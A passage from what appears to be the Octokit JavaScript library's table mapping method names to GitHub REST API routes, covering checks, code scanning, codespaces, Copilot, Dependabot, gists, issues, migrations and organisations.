    create: ["POST /repos/{owner}/{repo}/check-runs"],
    createSuite: ["POST /repos/{owner}/{repo}/check-suites"],
    get: ["GET /repos/{owner}/{repo}/check-runs/{check_run_id}"],
    getSuite: ["GET /repos/{owner}/{repo}/check-suites/{check_suite_id}"],
    listAnnotations: [
      "GET /repos/{owner}/{repo}/check-runs/{check_run_id}/annotations"
    ],
    listForRef: ["GET /repos/{owner}/{repo}/commits/{ref}/check-runs"],
    listForSuite: [
      "GET /repos/{owner}/{repo}/check-suites/{check_suite_id}/check-runs"
    ],
    listSuitesForRef: ["GET /repos/{owner}/{repo}/commits/{ref}/check-suites"],
    rerequestRun: [
      "POST /repos/{owner}/{repo}/check-runs/{check_run_id}/rerequest"
    ],
    rerequestSuite: [
      "POST /repos/{owner}/{repo}/check-suites/{check_suite_id}/rerequest"
    ],
    setSuitesPreferences: [
      "PATCH /repos/{owner}/{repo}/check-suites/preferences"
    ],
    update: ["PATCH /repos/{owner}/{repo}/check-runs/{check_run_id}"]
  },
  codeScanning: {
    commitAutofix: [
      "POST /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}/autofix/commits"
    ],
    createAutofix: [
      "POST /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}/autofix"
    ],
    createVariantAnalysis: [
      "POST /repos/{owner}/{repo}/code-scanning/codeql/variant-analyses"
    ],
    deleteAnalysis: [
      "DELETE /repos/{owner}/{repo}/code-scanning/analyses/{analysis_id}{?confirm_delete}"
    ],
    deleteCodeqlDatabase: [
      "DELETE /repos/{owner}/{repo}/code-scanning/codeql/databases/{language}"
    ],
    getAlert: [
      "GET /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}",
      {},
      { renamedParameters: { alert_id: "alert_number" } }
    ],
    getAnalysis: [
      "GET /repos/{owner}/{repo}/code-scanning/analyses/{analysis_id}"
    ],
    getAutofix: [
      "GET /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}/autofix"
    ],
    getCodeqlDatabase: [
      "GET /repos/{owner}/{repo}/code-scanning/codeql/databases/{language}"
    ],
    getDefaultSetup: ["GET /repos/{owner}/{repo}/code-scanning/default-setup"],
    getSarif: ["GET /repos/{owner}/{repo}/code-scanning/sarifs/{sarif_id}"],
    getVariantAnalysis: [
      "GET /repos/{owner}/{repo}/code-scanning/codeql/variant-analyses/{codeql_variant_analysis_id}"
    ],
    getVariantAnalysisRepoTask: [
      "GET /repos/{owner}/{repo}/code-scanning/codeql/variant-analyses/{codeql_variant_analysis_id}/repos/{repo_owner}/{repo_name}"
    ],
    listAlertInstances: [
      "GET /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}/instances"
    ],
    listAlertsForOrg: ["GET /orgs/{org}/code-scanning/alerts"],
    listAlertsForRepo: ["GET /repos/{owner}/{repo}/code-scanning/alerts"],
    listAlertsInstances: [
      "GET /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}/instances",
      {},
      { renamed: ["codeScanning", "listAlertInstances"] }
    ],
    listCodeqlDatabases: [
      "GET /repos/{owner}/{repo}/code-scanning/codeql/databases"
    ],
    listRecentAnalyses: ["GET /repos/{owner}/{repo}/code-scanning/analyses"],
    updateAlert: [
      "PATCH /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}"
    ],
    updateDefaultSetup: [
      "PATCH /repos/{owner}/{repo}/code-scanning/default-setup"
    ],
    uploadSarif: ["POST /repos/{owner}/{repo}/code-scanning/sarifs"]
  },
  codeSecurity: {
    attachConfiguration: [
      "POST /orgs/{org}/code-security/configurations/{configuration_id}/attach"
    ],
    attachEnterpriseConfiguration: [
      "POST /enterprises/{enterprise}/code-security/configurations/{configuration_id}/attach"
    ],
    createConfiguration: ["POST /orgs/{org}/code-security/configurations"],
    createConfigurationForEnterprise: [
      "POST /enterprises/{enterprise}/code-security/configurations"
    ],
    deleteConfiguration: [
      "DELETE /orgs/{org}/code-security/configurations/{configuration_id}"
    ],
    deleteConfigurationForEnterprise: [
      "DELETE /enterprises/{enterprise}/code-security/configurations/{configuration_id}"
    ],
    detachConfiguration: [
      "DELETE /orgs/{org}/code-security/configurations/detach"
    ],
    getConfiguration: [
      "GET /orgs/{org}/code-security/configurations/{configuration_id}"
    ],
    getConfigurationForRepository: [
      "GET /repos/{owner}/{repo}/code-security-configuration"
    ],
    getConfigurationsForEnterprise: [
      "GET /enterprises/{enterprise}/code-security/configurations"
    ],
    getConfigurationsForOrg: ["GET /orgs/{org}/code-security/configurations"],
    getDefaultConfigurations: [
      "GET /orgs/{org}/code-security/configurations/defaults"
    ],
    getDefaultConfigurationsForEnterprise: [
      "GET /enterprises/{enterprise}/code-security/configurations/defaults"
    ],
    getRepositoriesForConfiguration: [
      "GET /orgs/{org}/code-security/configurations/{configuration_id}/repositories"
    ],
    getRepositoriesForEnterpriseConfiguration: [
      "GET /enterprises/{enterprise}/code-security/configurations/{configuration_id}/repositories"
    ],
    getSingleConfigurationForEnterprise: [
      "GET /enterprises/{enterprise}/code-security/configurations/{configuration_id}"
    ],
    setConfigurationAsDefault: [
      "PUT /orgs/{org}/code-security/configurations/{configuration_id}/defaults"
    ],
    setConfigurationAsDefaultForEnterprise: [
      "PUT /enterprises/{enterprise}/code-security/configurations/{configuration_id}/defaults"
    ],
    updateConfiguration: [
      "PATCH /orgs/{org}/code-security/configurations/{configuration_id}"
    ],
    updateEnterpriseConfiguration: [
      "PATCH /enterprises/{enterprise}/code-security/configurations/{configuration_id}"
    ]
  },
  codesOfConduct: {
    getAllCodesOfConduct: ["GET /codes_of_conduct"],
    getConductCode: ["GET /codes_of_conduct/{key}"]
  },
  codespaces: {
    addRepositoryForSecretForAuthenticatedUser: [
      "PUT /user/codespaces/secrets/{secret_name}/repositories/{repository_id}"
    ],
    addSelectedRepoToOrgSecret: [
      "PUT /orgs/{org}/codespaces/secrets/{secret_name}/repositories/{repository_id}"
    ],
    checkPermissionsForDevcontainer: [
      "GET /repos/{owner}/{repo}/codespaces/permissions_check"
    ],
    codespaceMachinesForAuthenticatedUser: [
      "GET /user/codespaces/{codespace_name}/machines"
    ],
    createForAuthenticatedUser: ["POST /user/codespaces"],
    createOrUpdateOrgSecret: [
      "PUT /orgs/{org}/codespaces/secrets/{secret_name}"
    ],
    createOrUpdateRepoSecret: [
      "PUT /repos/{owner}/{repo}/codespaces/secrets/{secret_name}"
    ],
    createOrUpdateSecretForAuthenticatedUser: [
      "PUT /user/codespaces/secrets/{secret_name}"
    ],
    createWithPrForAuthenticatedUser: [
      "POST /repos/{owner}/{repo}/pulls/{pull_number}/codespaces"
    ],
    createWithRepoForAuthenticatedUser: [
      "POST /repos/{owner}/{repo}/codespaces"
    ],
    deleteForAuthenticatedUser: ["DELETE /user/codespaces/{codespace_name}"],
    deleteFromOrganization: [
      "DELETE /orgs/{org}/members/{username}/codespaces/{codespace_name}"
    ],
    deleteOrgSecret: ["DELETE /orgs/{org}/codespaces/secrets/{secret_name}"],
    deleteRepoSecret: [
      "DELETE /repos/{owner}/{repo}/codespaces/secrets/{secret_name}"
    ],
    deleteSecretForAuthenticatedUser: [
      "DELETE /user/codespaces/secrets/{secret_name}"
    ],
    exportForAuthenticatedUser: [
      "POST /user/codespaces/{codespace_name}/exports"
    ],
    getCodespacesForUserInOrg: [
      "GET /orgs/{org}/members/{username}/codespaces"
    ],
    getExportDetailsForAuthenticatedUser: [
      "GET /user/codespaces/{codespace_name}/exports/{export_id}"
    ],
    getForAuthenticatedUser: ["GET /user/codespaces/{codespace_name}"],
    getOrgPublicKey: ["GET /orgs/{org}/codespaces/secrets/public-key"],
    getOrgSecret: ["GET /orgs/{org}/codespaces/secrets/{secret_name}"],
    getPublicKeyForAuthenticatedUser: [
      "GET /user/codespaces/secrets/public-key"
    ],
    getRepoPublicKey: [
      "GET /repos/{owner}/{repo}/codespaces/secrets/public-key"
    ],
    getRepoSecret: [
      "GET /repos/{owner}/{repo}/codespaces/secrets/{secret_name}"
    ],
    getSecretForAuthenticatedUser: [
      "GET /user/codespaces/secrets/{secret_name}"
    ],
    listDevcontainersInRepositoryForAuthenticatedUser: [
      "GET /repos/{owner}/{repo}/codespaces/devcontainers"
    ],
    listForAuthenticatedUser: ["GET /user/codespaces"],
    listInOrganization: [
      "GET /orgs/{org}/codespaces",
      {},
      { renamedParameters: { org_id: "org" } }
    ],
    listInRepositoryForAuthenticatedUser: [
      "GET /repos/{owner}/{repo}/codespaces"
    ],
    listOrgSecrets: ["GET /orgs/{org}/codespaces/secrets"],
    listRepoSecrets: ["GET /repos/{owner}/{repo}/codespaces/secrets"],
    listRepositoriesForSecretForAuthenticatedUser: [
      "GET /user/codespaces/secrets/{secret_name}/repositories"
    ],
    listSecretsForAuthenticatedUser: ["GET /user/codespaces/secrets"],
    listSelectedReposForOrgSecret: [
      "GET /orgs/{org}/codespaces/secrets/{secret_name}/repositories"
    ],
    preFlightWithRepoForAuthenticatedUser: [
      "GET /repos/{owner}/{repo}/codespaces/new"
    ],
    publishForAuthenticatedUser: [
      "POST /user/codespaces/{codespace_name}/publish"
    ],
    removeRepositoryForSecretForAuthenticatedUser: [
      "DELETE /user/codespaces/secrets/{secret_name}/repositories/{repository_id}"
    ],
    removeSelectedRepoFromOrgSecret: [
      "DELETE /orgs/{org}/codespaces/secrets/{secret_name}/repositories/{repository_id}"
    ],
    repoMachinesForAuthenticatedUser: [
      "GET /repos/{owner}/{repo}/codespaces/machines"
    ],
    setRepositoriesForSecretForAuthenticatedUser: [
      "PUT /user/codespaces/secrets/{secret_name}/repositories"
    ],
    setSelectedReposForOrgSecret: [
      "PUT /orgs/{org}/codespaces/secrets/{secret_name}/repositories"
    ],
    startForAuthenticatedUser: ["POST /user/codespaces/{codespace_name}/start"],
    stopForAuthenticatedUser: ["POST /user/codespaces/{codespace_name}/stop"],
    stopInOrganization: [
      "POST /orgs/{org}/members/{username}/codespaces/{codespace_name}/stop"
    ],
    updateForAuthenticatedUser: ["PATCH /user/codespaces/{codespace_name}"]
  },
  copilot: {
    addCopilotSeatsForTeams: [
      "POST /orgs/{org}/copilot/billing/selected_teams"
    ],
    addCopilotSeatsForUsers: [
      "POST /orgs/{org}/copilot/billing/selected_users"
    ],
    cancelCopilotSeatAssignmentForTeams: [
      "DELETE /orgs/{org}/copilot/billing/selected_teams"
    ],
    cancelCopilotSeatAssignmentForUsers: [
      "DELETE /orgs/{org}/copilot/billing/selected_users"
    ],
    copilotMetricsForOrganization: ["GET /orgs/{org}/copilot/metrics"],
    copilotMetricsForTeam: ["GET /orgs/{org}/team/{team_slug}/copilot/metrics"],
    getCopilotOrganizationDetails: ["GET /orgs/{org}/copilot/billing"],
    getCopilotSeatDetailsForUser: [
      "GET /orgs/{org}/members/{username}/copilot"
    ],
    listCopilotSeats: ["GET /orgs/{org}/copilot/billing/seats"]
  },
  credentials: { revoke: ["POST /credentials/revoke"] },
  dependabot: {
    addSelectedRepoToOrgSecret: [
      "PUT /orgs/{org}/dependabot/secrets/{secret_name}/repositories/{repository_id}"
    ],
    createOrUpdateOrgSecret: [
      "PUT /orgs/{org}/dependabot/secrets/{secret_name}"
    ],
    createOrUpdateRepoSecret: [
      "PUT /repos/{owner}/{repo}/dependabot/secrets/{secret_name}"
    ],
    deleteOrgSecret: ["DELETE /orgs/{org}/dependabot/secrets/{secret_name}"],
    deleteRepoSecret: [
      "DELETE /repos/{owner}/{repo}/dependabot/secrets/{secret_name}"
    ],
    getAlert: ["GET /repos/{owner}/{repo}/dependabot/alerts/{alert_number}"],
    getOrgPublicKey: ["GET /orgs/{org}/dependabot/secrets/public-key"],
    getOrgSecret: ["GET /orgs/{org}/dependabot/secrets/{secret_name}"],
    getRepoPublicKey: [
      "GET /repos/{owner}/{repo}/dependabot/secrets/public-key"
    ],
    getRepoSecret: [
      "GET /repos/{owner}/{repo}/dependabot/secrets/{secret_name}"
    ],
    listAlertsForEnterprise: [
      "GET /enterprises/{enterprise}/dependabot/alerts"
    ],
    listAlertsForOrg: ["GET /orgs/{org}/dependabot/alerts"],
    listAlertsForRepo: ["GET /repos/{owner}/{repo}/dependabot/alerts"],
    listOrgSecrets: ["GET /orgs/{org}/dependabot/secrets"],
    listRepoSecrets: ["GET /repos/{owner}/{repo}/dependabot/secrets"],
    listSelectedReposForOrgSecret: [
      "GET /orgs/{org}/dependabot/secrets/{secret_name}/repositories"
    ],
    removeSelectedRepoFromOrgSecret: [
      "DELETE /orgs/{org}/dependabot/secrets/{secret_name}/repositories/{repository_id}"
    ],
    repositoryAccessForOrg: [
      "GET /organizations/{org}/dependabot/repository-access"
    ],
    setRepositoryAccessDefaultLevel: [
      "PUT /organizations/{org}/dependabot/repository-access/default-level"
    ],
    setSelectedReposForOrgSecret: [
      "PUT /orgs/{org}/dependabot/secrets/{secret_name}/repositories"
    ],
    updateAlert: [
      "PATCH /repos/{owner}/{repo}/dependabot/alerts/{alert_number}"
    ],
    updateRepositoryAccessForOrg: [
      "PATCH /organizations/{org}/dependabot/repository-access"
    ]
  },
  dependencyGraph: {
    createRepositorySnapshot: [
      "POST /repos/{owner}/{repo}/dependency-graph/snapshots"
    ],
    diffRange: [
      "GET /repos/{owner}/{repo}/dependency-graph/compare/{basehead}"
    ],
    exportSbom: ["GET /repos/{owner}/{repo}/dependency-graph/sbom"]
  },
  emojis: { get: ["GET /emojis"] },
  enterpriseTeamMemberships: {
    add: [
      "PUT /enterprises/{enterprise}/teams/{enterprise-team}/memberships/{username}"
    ],
    bulkAdd: [
      "POST /enterprises/{enterprise}/teams/{enterprise-team}/memberships/add"
    ],
    bulkRemove: [
      "POST /enterprises/{enterprise}/teams/{enterprise-team}/memberships/remove"
    ],
    get: [
      "GET /enterprises/{enterprise}/teams/{enterprise-team}/memberships/{username}"
    ],
    list: ["GET /enterprises/{enterprise}/teams/{enterprise-team}/memberships"],
    remove: [
      "DELETE /enterprises/{enterprise}/teams/{enterprise-team}/memberships/{username}"
    ]
  },
  enterpriseTeamOrganizations: {
    add: [
      "PUT /enterprises/{enterprise}/teams/{enterprise-team}/organizations/{org}"
    ],
    bulkAdd: [
      "POST /enterprises/{enterprise}/teams/{enterprise-team}/organizations/add"
    ],
    bulkRemove: [
      "POST /enterprises/{enterprise}/teams/{enterprise-team}/organizations/remove"
    ],
    delete: [
      "DELETE /enterprises/{enterprise}/teams/{enterprise-team}/organizations/{org}"
    ],
    getAssignment: [
      "GET /enterprises/{enterprise}/teams/{enterprise-team}/organizations/{org}"
    ],
    getAssignments: [
      "GET /enterprises/{enterprise}/teams/{enterprise-team}/organizations"
    ]
  },
  enterpriseTeams: {
    create: ["POST /enterprises/{enterprise}/teams"],
    delete: ["DELETE /enterprises/{enterprise}/teams/{team_slug}"],
    get: ["GET /enterprises/{enterprise}/teams/{team_slug}"],
    list: ["GET /enterprises/{enterprise}/teams"],
    update: ["PATCH /enterprises/{enterprise}/teams/{team_slug}"]
  },
  gists: {
    checkIsStarred: ["GET /gists/{gist_id}/star"],
    create: ["POST /gists"],
    createComment: ["POST /gists/{gist_id}/comments"],
    delete: ["DELETE /gists/{gist_id}"],
    deleteComment: ["DELETE /gists/{gist_id}/comments/{comment_id}"],
    fork: ["POST /gists/{gist_id}/forks"],
    get: ["GET /gists/{gist_id}"],
    getComment: ["GET /gists/{gist_id}/comments/{comment_id}"],
    getRevision: ["GET /gists/{gist_id}/{sha}"],
    list: ["GET /gists"],
    listComments: ["GET /gists/{gist_id}/comments"],
    listCommits: ["GET /gists/{gist_id}/commits"],
    listForUser: ["GET /users/{username}/gists"],
    listForks: ["GET /gists/{gist_id}/forks"],
    listPublic: ["GET /gists/public"],
    listStarred: ["GET /gists/starred"],
    star: ["PUT /gists/{gist_id}/star"],
    unstar: ["DELETE /gists/{gist_id}/star"],
    update: ["PATCH /gists/{gist_id}"],
    updateComment: ["PATCH /gists/{gist_id}/comments/{comment_id}"]
  },
  git: {
    createBlob: ["POST /repos/{owner}/{repo}/git/blobs"],
    createCommit: ["POST /repos/{owner}/{repo}/git/commits"],
    createRef: ["POST /repos/{owner}/{repo}/git/refs"],
    createTag: ["POST /repos/{owner}/{repo}/git/tags"],
    createTree: ["POST /repos/{owner}/{repo}/git/trees"],
    deleteRef: ["DELETE /repos/{owner}/{repo}/git/refs/{ref}"],
    getBlob: ["GET /repos/{owner}/{repo}/git/blobs/{file_sha}"],
    getCommit: ["GET /repos/{owner}/{repo}/git/commits/{commit_sha}"],
    getRef: ["GET /repos/{owner}/{repo}/git/ref/{ref}"],
    getTag: ["GET /repos/{owner}/{repo}/git/tags/{tag_sha}"],
    getTree: ["GET /repos/{owner}/{repo}/git/trees/{tree_sha}"],
    listMatchingRefs: ["GET /repos/{owner}/{repo}/git/matching-refs/{ref}"],
    updateRef: ["PATCH /repos/{owner}/{repo}/git/refs/{ref}"]
  },
  gitignore: {
    getAllTemplates: ["GET /gitignore/templates"],
    getTemplate: ["GET /gitignore/templates/{name}"]
  },
  hostedCompute: {
    createNetworkConfigurationForOrg: [
      "POST /orgs/{org}/settings/network-configurations"
    ],
    deleteNetworkConfigurationFromOrg: [
      "DELETE /orgs/{org}/settings/network-configurations/{network_configuration_id}"
    ],
    getNetworkConfigurationForOrg: [
      "GET /orgs/{org}/settings/network-configurations/{network_configuration_id}"
    ],
    getNetworkSettingsForOrg: [
      "GET /orgs/{org}/settings/network-settings/{network_settings_id}"
    ],
    listNetworkConfigurationsForOrg: [
      "GET /orgs/{org}/settings/network-configurations"
    ],
    updateNetworkConfigurationForOrg: [
      "PATCH /orgs/{org}/settings/network-configurations/{network_configuration_id}"
    ]
  },
  interactions: {
    getRestrictionsForAuthenticatedUser: ["GET /user/interaction-limits"],
    getRestrictionsForOrg: ["GET /orgs/{org}/interaction-limits"],
    getRestrictionsForRepo: ["GET /repos/{owner}/{repo}/interaction-limits"],
    getRestrictionsForYourPublicRepos: [
      "GET /user/interaction-limits",
      {},
      { renamed: ["interactions", "getRestrictionsForAuthenticatedUser"] }
    ],
    removeRestrictionsForAuthenticatedUser: ["DELETE /user/interaction-limits"],
    removeRestrictionsForOrg: ["DELETE /orgs/{org}/interaction-limits"],
    removeRestrictionsForRepo: [
      "DELETE /repos/{owner}/{repo}/interaction-limits"
    ],
    removeRestrictionsForYourPublicRepos: [
      "DELETE /user/interaction-limits",
      {},
      { renamed: ["interactions", "removeRestrictionsForAuthenticatedUser"] }
    ],
    setRestrictionsForAuthenticatedUser: ["PUT /user/interaction-limits"],
    setRestrictionsForOrg: ["PUT /orgs/{org}/interaction-limits"],
    setRestrictionsForRepo: ["PUT /repos/{owner}/{repo}/interaction-limits"],
    setRestrictionsForYourPublicRepos: [
      "PUT /user/interaction-limits",
      {},
      { renamed: ["interactions", "setRestrictionsForAuthenticatedUser"] }
    ]
  },
  issues: {
    addAssignees: [
      "POST /repos/{owner}/{repo}/issues/{issue_number}/assignees"
    ],
    addBlockedByDependency: [
      "POST /repos/{owner}/{repo}/issues/{issue_number}/dependencies/blocked_by"
    ],
    addLabels: ["POST /repos/{owner}/{repo}/issues/{issue_number}/labels"],
    addSubIssue: [
      "POST /repos/{owner}/{repo}/issues/{issue_number}/sub_issues"
    ],
    checkUserCanBeAssigned: ["GET /repos/{owner}/{repo}/assignees/{assignee}"],
    checkUserCanBeAssignedToIssue: [
      "GET /repos/{owner}/{repo}/issues/{issue_number}/assignees/{assignee}"
    ],
    create: ["POST /repos/{owner}/{repo}/issues"],
    createComment: [
      "POST /repos/{owner}/{repo}/issues/{issue_number}/comments"
    ],
    createLabel: ["POST /repos/{owner}/{repo}/labels"],
    createMilestone: ["POST /repos/{owner}/{repo}/milestones"],
    deleteComment: [
      "DELETE /repos/{owner}/{repo}/issues/comments/{comment_id}"
    ],
    deleteLabel: ["DELETE /repos/{owner}/{repo}/labels/{name}"],
    deleteMilestone: [
      "DELETE /repos/{owner}/{repo}/milestones/{milestone_number}"
    ],
    get: ["GET /repos/{owner}/{repo}/issues/{issue_number}"],
    getComment: ["GET /repos/{owner}/{repo}/issues/comments/{comment_id}"],
    getEvent: ["GET /repos/{owner}/{repo}/issues/events/{event_id}"],
    getLabel: ["GET /repos/{owner}/{repo}/labels/{name}"],
    getMilestone: ["GET /repos/{owner}/{repo}/milestones/{milestone_number}"],
    getParent: ["GET /repos/{owner}/{repo}/issues/{issue_number}/parent"],
    list: ["GET /issues"],
    listAssignees: ["GET /repos/{owner}/{repo}/assignees"],
    listComments: ["GET /repos/{owner}/{repo}/issues/{issue_number}/comments"],
    listCommentsForRepo: ["GET /repos/{owner}/{repo}/issues/comments"],
    listDependenciesBlockedBy: [
      "GET /repos/{owner}/{repo}/issues/{issue_number}/dependencies/blocked_by"
    ],
    listDependenciesBlocking: [
      "GET /repos/{owner}/{repo}/issues/{issue_number}/dependencies/blocking"
    ],
    listEvents: ["GET /repos/{owner}/{repo}/issues/{issue_number}/events"],
    listEventsForRepo: ["GET /repos/{owner}/{repo}/issues/events"],
    listEventsForTimeline: [
      "GET /repos/{owner}/{repo}/issues/{issue_number}/timeline"
    ],
    listForAuthenticatedUser: ["GET /user/issues"],
    listForOrg: ["GET /orgs/{org}/issues"],
    listForRepo: ["GET /repos/{owner}/{repo}/issues"],
    listLabelsForMilestone: [
      "GET /repos/{owner}/{repo}/milestones/{milestone_number}/labels"
    ],
    listLabelsForRepo: ["GET /repos/{owner}/{repo}/labels"],
    listLabelsOnIssue: [
      "GET /repos/{owner}/{repo}/issues/{issue_number}/labels"
    ],
    listMilestones: ["GET /repos/{owner}/{repo}/milestones"],
    listSubIssues: [
      "GET /repos/{owner}/{repo}/issues/{issue_number}/sub_issues"
    ],
    lock: ["PUT /repos/{owner}/{repo}/issues/{issue_number}/lock"],
    removeAllLabels: [
      "DELETE /repos/{owner}/{repo}/issues/{issue_number}/labels"
    ],
    removeAssignees: [
      "DELETE /repos/{owner}/{repo}/issues/{issue_number}/assignees"
    ],
    removeDependencyBlockedBy: [
      "DELETE /repos/{owner}/{repo}/issues/{issue_number}/dependencies/blocked_by/{issue_id}"
    ],
    removeLabel: [
      "DELETE /repos/{owner}/{repo}/issues/{issue_number}/labels/{name}"
    ],
    removeSubIssue: [
      "DELETE /repos/{owner}/{repo}/issues/{issue_number}/sub_issue"
    ],
    reprioritizeSubIssue: [
      "PATCH /repos/{owner}/{repo}/issues/{issue_number}/sub_issues/priority"
    ],
    setLabels: ["PUT /repos/{owner}/{repo}/issues/{issue_number}/labels"],
    unlock: ["DELETE /repos/{owner}/{repo}/issues/{issue_number}/lock"],
    update: ["PATCH /repos/{owner}/{repo}/issues/{issue_number}"],
    updateComment: ["PATCH /repos/{owner}/{repo}/issues/comments/{comment_id}"],
    updateLabel: ["PATCH /repos/{owner}/{repo}/labels/{name}"],
    updateMilestone: [
      "PATCH /repos/{owner}/{repo}/milestones/{milestone_number}"
    ]
  },
  licenses: {
    get: ["GET /licenses/{license}"],
    getAllCommonlyUsed: ["GET /licenses"],
    getForRepo: ["GET /repos/{owner}/{repo}/license"]
  },
  markdown: {
    render: ["POST /markdown"],
    renderRaw: [
      "POST /markdown/raw",
      { headers: { "content-type": "text/plain; charset=utf-8" } }
    ]
  },
  meta: {
    get: ["GET /meta"],
    getAllVersions: ["GET /versions"],
    getOctocat: ["GET /octocat"],
    getZen: ["GET /zen"],
    root: ["GET /"]
  },
  migrations: {
    deleteArchiveForAuthenticatedUser: [
      "DELETE /user/migrations/{migration_id}/archive"
    ],
    deleteArchiveForOrg: [
      "DELETE /orgs/{org}/migrations/{migration_id}/archive"
    ],
    downloadArchiveForOrg: [
      "GET /orgs/{org}/migrations/{migration_id}/archive"
    ],
    getArchiveForAuthenticatedUser: [
      "GET /user/migrations/{migration_id}/archive"
    ],
    getStatusForAuthenticatedUser: ["GET /user/migrations/{migration_id}"],
    getStatusForOrg: ["GET /orgs/{org}/migrations/{migration_id}"],
    listForAuthenticatedUser: ["GET /user/migrations"],
    listForOrg: ["GET /orgs/{org}/migrations"],
    listReposForAuthenticatedUser: [
      "GET /user/migrations/{migration_id}/repositories"
    ],
    listReposForOrg: ["GET /orgs/{org}/migrations/{migration_id}/repositories"],
    listReposForUser: [
      "GET /user/migrations/{migration_id}/repositories",
      {},
      { renamed: ["migrations", "listReposForAuthenticatedUser"] }
    ],
    startForAuthenticatedUser: ["POST /user/migrations"],
    startForOrg: ["POST /orgs/{org}/migrations"],
    unlockRepoForAuthenticatedUser: [
      "DELETE /user/migrations/{migration_id}/repos/{repo_name}/lock"
    ],
    unlockRepoForOrg: [
      "DELETE /orgs/{org}/migrations/{migration_id}/repos/{repo_name}/lock"
    ]
  },
  oidc: {
    getOidcCustomSubTemplateForOrg: [
      "GET /orgs/{org}/actions/oidc/customization/sub"
    ],
    updateOidcCustomSubTemplateForOrg: [
      "PUT /orgs/{org}/actions/oidc/customization/sub"
    ]
  },
  orgs: {
    addSecurityManagerTeam: [
      "PUT /orgs/{org}/security-managers/teams/{team_slug}",
      {},
      {
        deprecated: "octokit.rest.orgs.addSecurityManagerTeam() is deprecated, see https://docs.github.com/rest/orgs/security-managers#add-a-security-manager-team"
      }
    ],
    assignTeamToOrgRole: [
      "PUT /orgs/{org}/organization-roles/teams/{team_slug}/{role_id}"
    ],
    assignUserToOrgRole: [
      "PUT /orgs/{org}/organization-roles/users/{username}/{role_id}"
    ],
    blockUser: ["PUT /orgs/{org}/blocks/{username}"],
    cancelInvitation: ["DELETE /orgs/{org}/invitations/{invitation_id}"],
    checkBlockedUser: ["GET /orgs/{org}/blocks/{username}"],
    checkMembershipForUser: ["GET /orgs/{org}/members/{username}"],
    checkPublicMembershipForUser: ["GET /orgs/{org}/public_members/{username}"],
    convertMemberToOutsideCollaborator: [
      "PUT /orgs/{org}/outside_collaborators/{username}"
    ],
    createArtifactStorageRecord: [
      "POST /orgs/{org}/artifacts/metadata/storage-record"
    ],
    createInvitation: ["POST /orgs/{org}/invitations"],
    createIssueType: ["POST /orgs/{org}/issue-types"],
    createWebhook: ["POST /orgs/{org}/hooks"],
    customPropertiesForOrgsCreateOrUpdateOrganizationValues: [
      "PATCH /organizations/{org}/org-properties/values"
    ],
    customPropertiesForOrgsGetOrganizationValues: [
      "GET /organizations/{org}/org-properties/values"
    ],
    customPropertiesForReposCreateOrUpdateOrganizationDefinition: [
      "PUT /orgs/{org}/properties/schema/{custom_property_name}"
    ],
    customPropertiesForReposCreateOrUpdateOrganizationDefinitions: [
      "PATCH /orgs/{org}/properties/schema"
    ],
    customPropertiesForReposCreateOrUpdateOrganizationValues: [
      "PATCH /orgs/{org}/properties/values"
    ],
    customPropertiesForReposDeleteOrganizationDefinition: [
      "DELETE /orgs/{org}/properties/schema/{custom_property_name}"
    ],
    customPropertiesForReposGetOrganizationDefinition: [
      "GET /orgs/{org}/properties/schema/{custom_property_name}"
    ],
    customPropertiesForReposGetOrganizationDefinitions: [
      "GET /orgs/{org}/properties/schema"
    ],
    customPropertiesForReposGetOrganizationValues: [
      "GET /orgs/{org}/properties/values"
    ],
    delete: ["DELETE /orgs/{org}"],
    deleteAttestationsBulk: ["POST /orgs/{org}/attestations/delete-request"],
    deleteAttestationsById: [
      "DELETE /orgs/{org}/attestations/{attestation_id}"
    ],
    deleteAttestationsBySubjectDigest: [
      "DELETE /orgs/{org}/attestations/digest/{subject_digest}"
    ],
    deleteIssueType: ["DELETE /orgs/{org}/issue-types/{issue_type_id}"],
    deleteWebhook: ["DELETE /orgs/{org}/hooks/{hook_id}"],
    disableSelectedRepositoryImmutableReleasesOrganization: [
      "DELETE /orgs/{org}/settings/immutable-releases/repositories/{repository_id}"
    ],
    enableSelectedRepositoryImmutableReleasesOrganization: [
      "PUT /orgs/{org}/settings/immutable-releases/repositories/{repository_id}"
    ],
    get: ["GET /orgs/{org}"],
    getImmutableReleasesSettings: [
      "GET /orgs/{org}/settings/immutable-releases"
    ],
    getImmutableReleasesSettingsRepositories: [
      "GET /orgs/{org}/settings/immutable-releases/repositories"
    ],
    getMembershipForAuthenticatedUser: ["GET /user/memberships/orgs/{org}"],
    getMembershipForUser: ["GET /orgs/{org}/memberships/{username}"],
    getOrgRole: ["GET /orgs/{org}/organization-roles/{role_id}"],
    getOrgRulesetHistory: ["GET /orgs/{org}/rulesets/{ruleset_id}/history"],
    getOrgRulesetVersion: [
      "GET /orgs/{org}/rulesets/{ruleset_id}/history/{version_id}"
    ],
    getWebhook: ["GET /orgs/{org}/hooks/{hook_id}"],
    getWebhookConfigForOrg: ["GET /orgs/{org}/hooks/{hook_id}/config"],
    getWebhookDelivery: [
      "GET /orgs/{org}/hooks/{hook_id}/deliveries/{delivery_id}"
    ],
    list: ["GET /organizations"],
    listAppInstallations: ["GET /orgs/{org}/installations"],
    listArtifactStorageRecords: [
      "GET /orgs/{org}/artifacts/{subject_digest}/metadata/storage-records"
    ],
    listAttestationRepositories: ["GET /orgs/{org}/attestations/repositories"],
    listAttestations: ["GET /orgs/{org}/attestations/{subject_digest}"],
    listAttestationsBulk: [
      "POST /orgs/{org}/attestations/bulk-list{?per_page,before,after}"
    ],
    listBlockedUsers: ["GET /orgs/{org}/blocks"],
    listFailedInvitations: ["GET /orgs/{org}/failed_invitations"],
    listForAuthenticatedUser: ["GET /user/orgs"],
    listForUser: ["GET /users/{username}/orgs"],
    listInvitationTeams: ["GET /orgs/{org}/invitations/{invitation_id}/teams"],
    listIssueTypes: ["GET /orgs/{org}/issue-types"],
    listMembers: ["GET /orgs/{org}/members"],
    listMembershipsForAuthenticatedUser: ["GET /user/memberships/orgs"],
    listOrgRoleTeams: ["GET /orgs/{org}/organization-roles/{role_id}/teams"],
    listOrgRoleUsers: ["GET /orgs/{org}/organization-roles/{role_id}/users"],
    listOrgRoles: ["GET /orgs/{org}/organization-roles"],
    listOrganizationFineGrainedPermissions: [
